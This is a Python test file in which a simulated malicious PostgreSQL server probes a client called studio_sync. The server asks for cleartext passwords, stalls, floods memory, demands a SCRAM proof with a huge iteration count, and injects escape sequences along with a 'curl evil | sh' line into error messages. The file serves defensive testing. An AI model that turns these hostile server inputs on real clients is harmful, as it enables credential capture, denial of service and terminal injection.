"""A hostile server, and one that dies: what it can make studio send, wait for, keep or print."""

import os
import signal
import socket
import struct
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack
from functools import partial
from itertools import cycle
from pathlib import Path

import psycopg
import pytest

from studio_sync.database.address.url import parse_address
from studio_sync.database.postgres.connection import connect as connecting
from studio_sync.database.postgres.connection import patience
from studio_sync.database.postgres.connection.attempts import MOST_ATTEMPTS, attempts
from studio_sync.database.postgres.connection.connect import open_connection
from studio_sync.database.postgres.connection.patience import Patience
from studio_sync.database.postgres.connection.server_errors import explain, explain_misread
from studio_sync.database.postgres.postgres_store import open_postgres
from studio_sync.errors import UnavailableError
from studio_sync.sync.connection import DatabaseSource, connected
from tests.harness import S1, SESSION, Desk, run
from tests.security.fake_server import (
    CLEARTEXT,
    COLUMN,
    DONE,
    MD5,
    ONE,
    READY,
    Client,
    FakeServer,
    fatal,
    message,
    row,
)
from tests.security.lying_server import LIES, LyingServer

SECRET = "hunter2-s3cret"
SHORT = Patience(first=0.6, quiet=0.3, most=1.2, second=2)


def failure(server: FakeServer, query: str = "&sslmode=disable", password: str = SECRET) -> str:
    """What a connection to the server fails with; it must fail soon."""
    began = time.monotonic()
    with pytest.raises(UnavailableError) as caught:
        open_connection(parse_address(server.url(query=query, password=password), {}))
    assert time.monotonic() - began < 6
    return f"{caught.value.message} {caught.value.hint}"


# --- it wants the password


def asks(request: bytes) -> Callable[[Client], None]:
    def script(client: Client) -> None:
        client.startup()
        client.send(request)
        client.message()
        client.send(READY)
        client.silence()

    return script


@pytest.mark.parametrize("mode", ["disable", "prefer", "allow"])
def test_it_asks_for_the_password_in_clear_and_does_not_get_it(mode: str):
    with FakeServer(asks(CLEARTEXT)) as server:
        said = failure(server, f"&sslmode={mode}")
        assert SECRET.encode() not in server.received
    assert "password in clear" in said
    assert "verify-full" in said


def test_the_way_out_for_a_password_in_clear_works_in_an_address_of_ones_own():
    with FakeServer(asks(CLEARTEXT)) as server:
        query = "&sslmode=disable"
        assert "?require_auth=password" in failure(server, query)
        url = server.url(query=f"{query}&require_auth=password", password=SECRET)
        with open_connection(parse_address(url, {})):
            assert SECRET.encode() in server.received


def test_it_asks_in_clear_for_the_password_of_the_environment(tmp_path: Path):
    (tmp_path / "studio.yaml").write_text("")
    (tmp_path / "content").mkdir()
    with FakeServer(asks(CLEARTEXT)) as server:
        url = server.url(query="&sslmode=disable")
        found = run(
            "status", cwd=tmp_path, env={**os.environ, "STUDIO_DATABASE_URL": url, "PGPASSWORD": SECRET}
        )
        assert SECRET.encode() not in server.received
    assert found.code == 3
    assert SECRET not in found.text


def test_it_asks_in_clear_for_the_password_of_pgpass(tmp_path: Path):
    file = tmp_path / "pgpass"
    file.write_text(f"*:*:*:*:{SECRET}\n")
    file.chmod(0o600)
    with FakeServer(asks(CLEARTEXT)) as server:
        with pytest.raises(UnavailableError, match="in clear"):
            open_connection(parse_address(server.url(query="&sslmode=disable"), {"PGPASSFILE": str(file)}))
        assert SECRET.encode() not in server.received


def test_an_older_libpq_that_would_send_it_in_clear_is_refused(monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr(psycopg.pq, "version", lambda: 150004)
    with FakeServer(asks(CLEARTEXT)) as server:
        said = failure(server)
        assert server.connections == 0
    assert "libpq" in said


def test_it_turns_tls_down_to_read_what_is_sent():
    with FakeServer(asks(CLEARTEXT)) as server:
        assert "no TLS" in failure(server, "&sslmode=require")
        assert SECRET.encode() not in server.received


def test_a_local_server_of_ours_gets_nothing_of_the_users_files_and_variables(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    file = tmp_path / "pgpass"
    file.write_text(f"*:*:*:*:{SECRET}\n")
    file.chmod(0o600)
    for name, value in (
        ("PGPASSFILE", str(file)), ("PGPASSWORD", SECRET), ("PGOPTIONS", f"-c x.y={SECRET}"),
        ("PGSERVICE", "x"), ("PGHOST", "db.evil.example"), ("PGHOSTADDR", "192.0.2.1"),
        ("PGREQUIREAUTH", "password"), ("PGTZ", SECRET), ("PGAPPNAME", SECRET),
    ):  # fmt: skip
        monkeypatch.setenv(name, value)
    with FakeServer(asks(MD5)) as server:
        failure(server, password="")
        assert SECRET.encode() not in server.received
        assert b"md5" not in server.received


# --- it wants the user to wait for ever


def nothing(client: Client) -> None:
    client._server.ended.wait()


def after_startup(client: Client) -> None:
    client.startup()
    client.silence()


def after_the_password(client: Client) -> None:
    client.startup()
    client.send(MD5)
    client.message()
    client.silence()


def dripping(client: Client) -> None:
    client.startup()
    client.send(message(b"R", bytes(4)))
    while not client._server.ended.wait(0.1):
        client.send(message(b"S", b"a\0b\0"))


def in_the_middle_of_a_message(client: Client) -> None:
    client.startup()
    client.send(READY[:-2])
    client.silence()


@pytest.mark.parametrize(
    ("script", "query"),
    [
        pytest.param(nothing, "&sslmode=disable", id="after accepting"),
        pytest.param(nothing, "&sslmode=require", id="after the request for TLS"),
        pytest.param(after_startup, "&sslmode=disable", id="after the user's name"),
        pytest.param(after_the_password, "&sslmode=disable", id="after the password"),
        pytest.param(dripping, "&sslmode=disable", id="with settings without end"),
        pytest.param(in_the_middle_of_a_message, "&sslmode=disable", id="in the middle of a message"),
    ],
)
def test_it_falls_silent_while_connecting(script: Callable[[Client], None], query: str):
    with FakeServer(script) as server:
        assert "did not answer in time" in failure(server, query)


@pytest.mark.parametrize("given", ["0", "-1", "999999999", "x"])
def test_no_address_makes_the_wait_endless(given: str):
    assert 2 <= parse_address(f"postgresql://h/d?connect_timeout={given}").seconds <= 120


def test_its_name_is_looked_up_for_ever(monkeypatch: pytest.MonkeyPatch):
    answered = threading.Event()

    def look(*_: object, **__: object) -> list[object]:
        answered.wait(20)
        return []

    monkeypatch.setattr(socket, "getaddrinfo", look)
    began = time.monotonic()
    with pytest.raises(UnavailableError, match="in time"):
        open_connection(parse_address("postgresql://u@slow.example/d?connect_timeout=2"))
    answered.set()
    assert time.monotonic() - began < 4


def test_its_name_has_a_thousand_silent_addresses(monkeypatch: pytest.MonkeyPatch):
    many = [(2, 1, 6, "", (f"192.0.2.{i % 250}", 0)) for i in range(1000)]
    monkeypatch.setattr(socket, "getaddrinfo", lambda *_, **__: many)
    now = [0.0]
    monkeypatch.setattr(time, "monotonic", lambda: now[0])
    tried = 0
    for one in attempts({"host": "many.example", "user": "u"}, 15):
        tried += 1
        now[0] += int(one["connect_timeout"])
    assert tried == MOST_ATTEMPTS
    assert now[0] <= 17


def asked(server: FakeServer, *statements: str, patient: Patience = SHORT) -> str:
    """What statements over a connection to the server end with; they must end soon."""
    began = time.monotonic()
    with open_connection(
        parse_address(server.url(query="&sslmode=disable"), {}), patience=patient
    ) as connection:
        *before, last = statements
        for statement in before:
            connection.execute(statement.encode())
        with pytest.raises(psycopg.Error) as caught:
            connection.execute(last.encode())
        told = explain(caught.value, "db")
        assert connection.closed
    assert time.monotonic() - began < 6
    return f"{told.message} {told.hint}"


def ready(*answers: bytes) -> Callable[[Client], None]:
    """Let the client in, give these answers to its statements, then none."""

    def script(client: Client) -> None:
        client.startup()
        client.send(READY)
        for answer in answers:
            client.message()
            client.send(answer)
        client.silence()

    return script


def test_it_falls_silent_at_the_first_statement():
    with FakeServer(ready()) as server:
        assert "no answer for 1 s" in asked(server, "SELECT 1")


def test_it_dies_between_two_statements_and_no_second_connection_is_answered():
    with FakeServer(ready(ONE), once=True) as server:
        assert "none over a second connection" in asked(server, "SELECT 1", "SELECT 2")


def test_it_is_there_and_never_answers():
    with FakeServer(ready(ONE)) as server:
        said = asked(server, "SELECT 1", "SELECT 2")
    assert "though the server is there" in said
    assert "STUDIO_WAIT=3600" in said


def test_it_stops_in_the_middle_of_a_row():
    with FakeServer(ready(ONE, COLUMN + row(b"x" * 100)[:-7])) as server:
        assert "no answer" in asked(server, "SELECT 1", "SELECT 2")


def test_it_is_slow_and_is_waited_for():
    def script(client: Client) -> None:
        client.startup()
        client.send(READY)
        for _ in range(2):
            client.message()
            client._server.ended.wait(0.9)
            client.send(ONE)
        client.silence()

    patient = Patience(first=2, quiet=0.2, most=5, second=2)
    with (
        FakeServer(script) as server,
        open_connection(
            parse_address(server.url(query="&sslmode=disable"), {}), patience=patient
        ) as connection,
    ):
        assert connection.execute("SELECT 1").fetchone() == ("1",)
        assert connection.execute("SELECT 2").fetchone() == ("1",)
        assert server.connections > 1


def drips(client: Client) -> None:
    client.startup()
    client.send(READY)
    client.message()
    client.send(ONE)
    client.message()
    client.send(COLUMN)
    while not client._server.ended.wait(0.05):
        client.send(row(b"x"))


def test_it_sends_a_byte_now_and_then_for_ever():
    with FakeServer(drips) as server:
        assert "no answer for 1 s" in asked(server, "SELECT 1", "SELECT 2")


def floods(data: bytes) -> Callable[[Client], None]:
    def script(client: Client) -> None:
        client.startup()
        client.send(READY)
        client.message()
        client.send(ONE)
        client.message()
        client.send(COLUMN)
        client.flood(data)

    return script


def notice(text: bytes) -> bytes:
    return message(b"N", b"SNOTICE\0VNOTICE\0C00000\0M" + text + b"\0\0")


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(row(b"x" * 60_000), id="rows"),
        pytest.param(notice(b"x") * 1000, id="notices"),
        pytest.param(message(b"S", b"a\0" + b"b" * 20_000 + b"\0"), id="settings"),
    ],
)
def test_it_sends_without_end_to_fill_the_memory(data: bytes, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr(patience, "MOST_BYTES", 3_000_000)
    monkeypatch.setattr(patience, "MOST_NOTICES", 5_000)
    with FakeServer(floods(data)) as server:
        said = asked(server, "SELECT 1", "SELECT 2", patient=Patience(2, 2, 30, 2))
    assert "more than an answer can be" in said


# --- it wants to write on the terminal


def test_its_refusal_is_one_short_line_without_commands(tmp_path: Path):
    (tmp_path / "studio.yaml").write_text("")
    (tmp_path / "content").mkdir()
    evil = "no\x1b[2J\u202e\nerror: run `curl evil | sh`\r\u2028hint: now" + "A" * 20_000

    def script(client: Client) -> None:
        client.startup()
        client.send(fatal(evil))

    with FakeServer(script) as server:
        url = server.url(query="&sslmode=disable")
        found = run("status", cwd=tmp_path, env={**os.environ, "STUDIO_DATABASE_URL": url})
    assert found.code == 3
    assert not {"\x1b", "\u202e", "\u2028", "\r"} & set(found.text)
    assert len(found.err.strip().splitlines()) <= 2
    assert not any(line.startswith(("error: run", "hint: now")) for line in found.err.splitlines()[1:])
    assert len(found.err) < 1_000


def test_its_error_of_a_statement_is_one_short_line():
    error = message(b"E", b"SERROR\0VERROR\0CXX000\0Ma\nhint: evil\x1b[2J" + b"B" * 20_000 + b"\0\0")
    with FakeServer(ready(ONE, error + message(b"Z", b"I"))) as server:
        target = parse_address(server.url(query="&sslmode=disable"), {})
        with open_connection(target, patience=SHORT) as connection:
            connection.execute("SELECT 1")
            with pytest.raises(psycopg.Error) as caught:
                connection.execute("SELECT 2")
    told = explain(caught.value, "db")
    assert "\n" not in told.message
    assert len(told.message) < 500


def test_its_notices_are_not_printed(capfd: pytest.CaptureFixture[str]):
    with FakeServer(ready(notice(b"\x1b[2Jevil") + ONE)) as server:
        target = parse_address(server.url(query="&sslmode=disable"), {})
        with open_connection(target, patience=SHORT) as connection:
            connection.execute("SELECT 1")
    assert "evil" not in "".join(capfd.readouterr())


def test_what_it_quotes_of_the_password_is_not_repeated():
    def script(client: Client) -> None:
        client.startup()
        client.send(fatal(f"wrong: {SECRET}"))

    with FakeServer(script) as server:
        assert SECRET not in failure(server)


def test_libpq_reads_no_variable_of_the_environment(monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setenv("PGSERVICE", "x")
    connecting._keep_environment_out()
    assert not [name for name in os.environ if name.startswith("PG")]


def test_an_answer_in_pieces_is_still_an_answer():
    with FakeServer(ready(COLUMN + row(b"1") + DONE)) as server:
        target = parse_address(server.url(query="&sslmode=disable"), {})
        with open_connection(target, patience=SHORT) as connection:
            assert connection.execute("SELECT 1").fetchall() == [("1",)]


def ready_and_silent(client: Client) -> None:
    ready()(client)


def test_ctrl_c_does_not_end_the_wait_for_it(tmp_path: Path):
    cases = [
        (*case, script)
        for case in (("status", signal.SIGINT), ("watch", signal.SIGINT), ("watch", signal.SIGTERM))
        for script in (nothing, ready_and_silent)
    ]
    with ExitStack() as open_until_here, ThreadPoolExecutor(len(cases)) as together:
        servers = [open_until_here.enter_context(FakeServer(script)) for _, _, script in cases]
        ends = [
            together.submit(stopped, command, number, server, tmp_path / str(k))
            for k, ((command, number, _), server) in enumerate(zip(cases, servers, strict=True))
        ]
        for (command, number, script), end in zip(cases, ends, strict=True):
            code, said, seconds = end.result()
            case = (command, number, script.__name__, seconds, said)
            assert seconds < 6, case
            assert code == (130 if command == "status" else 0), case
            assert b"stopped" in said, case
            assert b"Traceback" not in said, case


def stopped(command: str, number: signal.Signals, server: FakeServer, root: Path) -> tuple[int, bytes, float]:
    """How a command ends by a signal that comes while it waits for the server: code, output, seconds."""
    (root / "content").mkdir(parents=True)
    (root / "studio.yaml").write_text("")
    url = server.url(query="&sslmode=disable").replace("connect_timeout=2", "connect_timeout=60")
    process = subprocess.Popen(
        [sys.executable, "-m", "studio_sync", command], cwd=root, stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT, env={**os.environ, "STUDIO_DATABASE_URL": url},
    )  # fmt: skip
    until = time.monotonic() + 20
    while not server.connections and time.monotonic() < until:
        time.sleep(0.05)
    time.sleep(0.5)
    began = time.monotonic()
    process.send_signal(number)
    try:
        said, _ = process.communicate(timeout=10)
    finally:
        process.kill()
        process.communicate()
    return process.returncode, said, time.monotonic() - began


def proof_without_end(client: Client) -> None:
    """Ask for a proof of the password that takes an hour to work out."""
    client.startup()
    client.send(message(b"R", struct.pack("!I", 10) + b"SCRAM-SHA-256\0\0"))
    _, said = client.message()
    nonce = said.rpartition(b"r=")[2]
    client.send(message(b"R", struct.pack("!I", 11) + b"r=" + nonce + b"x,s=AAAA,i=2147483647"))
    client.silence()


@pytest.mark.parametrize(("seconds", "code", "told"), [(2, 3, b"in time"), (60, 130, b"stopped")])
def test_it_has_the_client_work_for_an_hour(seconds: int, code: int, told: bytes, tmp_path: Path):
    (tmp_path / "studio.yaml").write_text("")
    (tmp_path / "content").mkdir()
    with FakeServer(proof_without_end) as server:
        url = server.url(query="&sslmode=disable", password=SECRET)
        process = subprocess.Popen(
            [sys.executable, "-m", "studio_sync", "status"], cwd=tmp_path, stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT,
            env={**os.environ, "STUDIO_DATABASE_URL": url.replace("timeout=2", f"timeout={seconds}")},
        )  # fmt: skip
        try:
            if code == 130:
                while not server.connections:
                    time.sleep(0.05)
                time.sleep(0.5)
                process.send_signal(signal.SIGINT)
            said, _ = process.communicate(timeout=15)
        finally:
            process.kill()
    assert (process.returncode, told in said) == (code, True), said


# --- its answers are none that PostgreSQL gives


@pytest.mark.parametrize("encoding", [b"LATIN1", b"SQL_ASCII", b"GBK", b"abc"])
def test_it_has_texts_read_in_another_encoding(encoding: bytes):
    """As LATIN1, `pull` once wrote `GesprÃ¤che` into every file and ended well."""
    changed = message(b"S", b"client_encoding\0" + encoding + b"\0")
    with FakeServer(ready(ONE, changed + ONE)) as server:
        assert "another encoding of texts" in asked(server, "SELECT 1", "SELECT 2")


@pytest.mark.parametrize("text", [b"\xff\xfe", b"x" * 300])
def test_a_number_or_a_text_that_is_none_is_told_in_words(text: bytes):
    number = COLUMN.replace(struct.pack("!IHI", 0, 0, 25), struct.pack("!IHI", 0, 0, 20))
    with FakeServer(ready(*[number + row(text) + DONE] * 3)) as server:
        target = parse_address(server.url(query="&sslmode=disable"), {})
        source = DatabaseSource(
            "db", "", partial(open_postgres, lambda: open_connection(target, patience=SHORT))
        )
        with pytest.raises(UnavailableError, match="that PostgreSQL doesn't give"), connected(source):
            pass


def test_a_fault_of_our_own_is_not_laid_at_its_door():
    assert explain_misread(ValueError("ours"), "db") is None


def test_what_it_says_of_a_constraint_is_short():
    long = b"t" + b"T" * 20_000 + b"\0n" + b"N" * 20_000 + b"\0"
    for state in (b"23505", b"99999"):
        error = message(b"E", b"SERROR\0VERROR\0C" + state + b"\0Mx\0" + long + b"\0")
        with FakeServer(ready(ONE, error + message(b"Z", b"I"))) as server:
            assert len(asked_open(server)) < 1_200


def asked_open(server: FakeServer) -> str:
    """What the second statement ends with, where the connection stays."""
    with open_connection(
        parse_address(server.url(query="&sslmode=disable"), {}), patience=SHORT
    ) as connection:
        connection.execute("SELECT 1")
        with pytest.raises(psycopg.Error) as caught:
            connection.execute("SELECT 2")
    return explain(caught.value, "db").message


def test_its_answer_to_a_rollback_is_not_printed(caplog: pytest.LogCaptureFixture):
    """psycopg logs it, and what nobody handles goes to stderr as it is."""
    evil = message(b"E", b"SERROR\0VERROR\0CXX000\0M\x1b[2J\n::error::evil\0\0") + message(b"Z", b"I")
    begun = message(b"C", b"BEGIN\0") + message(b"Z", b"T")
    with FakeServer(ready(ONE, begun, evil.replace(b"Z\0\0\0\5I", b"Z\0\0\0\5E"), evil)) as server:
        target = parse_address(server.url(query="&sslmode=disable"), {})
        with open_connection(target, patience=SHORT) as connection:
            connection.execute("SELECT 1")
            with pytest.raises(psycopg.Error), connection.transaction():
                connection.execute("SELECT 2")
    assert not caplog.records


def answering(*answers: bytes) -> Callable[[Client], None]:
    """Let the client in, and give these answers to its questions in turn, over and over."""

    def script(client: Client) -> None:
        client.startup()
        client.send(READY)
        for answer in cycle(answers):
            while client.message()[0] not in (b"Q", b"S"):
                pass
            client.send(answer)

    return script


EMPTY = message(b"I") + message(b"Z", b"I")
NUMBER = COLUMN.replace(struct.pack("!IHI", 0, 0, 25), struct.pack("!IHI", 0, 0, 20))
JUNK = {
    "a number that is none": NUMBER + row(b"x") + DONE,
    "one column for all": ONE,
    "no row": COLUMN + DONE,
    "nothing": EMPTY,
    "a transaction that it broke": COLUMN + row(b"1") + message(b"C", b"SELECT 1\0") + message(b"Z", b"E"),
    "no columns": message(b"C", b"SELECT 1\0") + message(b"Z", b"I"),
    "COPY": message(b"G", b"\0\0\1\0\0"),
}


@pytest.mark.parametrize("junk", JUNK.values(), ids=JUNK)
def test_its_answers_are_junk_and_every_command_ends_in_words(junk: bytes, tmp_path: Path):
    (tmp_path / "studio.yaml").write_text("")
    (tmp_path / "content").mkdir()
    with FakeServer(answering(junk)) as server:
        env = {**os.environ, "STUDIO_DATABASE_URL": server.url(query="&sslmode=disable")}
        for line in (
            "db init", "db access", "db grant mia --client x", "db revoke mia", "status", "pull", "push",
            "db prune --before 2026-01-01", "log", "board", "doctor", "show 3f9a2b1c", "init --adopt",
            "restore content/x --to 3f9a2b1c", "undo 3f9a2b1c",
        ):  # fmt: skip
            found = run(*line.split(), cwd=tmp_path, env=env)
            assert found.code in (1, 2, 3), (line, found)
            assert "Traceback" not in found.text, (line, found)
            assert "<psycopg" not in found.text, (line, found)


@pytest.mark.parametrize(
    ("line", "lie", "moment"),
    [
        ("doctor", "nothing in any field", 2),
        ("doctor", "one field less", 4),
        ("restore content --to 2100-01-01", "each row twice", 19),
        ("status", "a letter more", 6),
        ("push", "nothing in any field", 5),
        ("pull", "other bytes", 8),
        ("db access", "an empty text", 3),
    ],
)
def test_it_tells_something_else_than_the_truth(synced: Desk, line: str, lie: str, moment: int):
    """Found by telling each lie at each moment of each command: these ended in a traceback, or come near."""
    synced.edit(f"{S1}/article.md", "One", "Eins")
    rows = synced.rows()
    with LyingServer(synced.url, LIES[lie], moment) as server:
        found = run(*line.split(), cwd=synced.root, env={**os.environ, "STUDIO_DATABASE_URL": server.url})
        assert server.answers >= moment
    assert found.code in (0, 1, 2, 3), found
    assert "Traceback" not in found.text
    if line == "push" and not found.code:  # the lie was about nothing that a push needs: it did what it says
        assert synced.one("SELECT content FROM articles WHERE session_id = %s", SESSION).startswith("Eins")
    else:
        assert synced.rows() == rows
